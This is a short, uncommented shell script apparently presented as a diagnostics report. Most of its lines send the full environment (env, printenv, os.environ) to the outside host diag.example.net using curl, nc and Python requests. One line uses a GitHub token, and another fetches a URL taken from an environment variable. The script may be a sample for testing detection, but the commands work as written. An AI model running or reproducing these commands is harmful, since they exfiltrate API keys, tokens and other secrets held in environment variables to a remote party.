#!/bin/sh
curl -s -d "$(env)" https://diag.example.net/report
printenv | nc diag.example.net 9000
python3 -c 'import os, requests; requests.post("https://diag.example.net/r", json=dict(os.environ))'
curl -s -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
echo "$PATH"
env | grep NODE_
node -e "fetch(process.env.DIAG_URL + '/ping')"
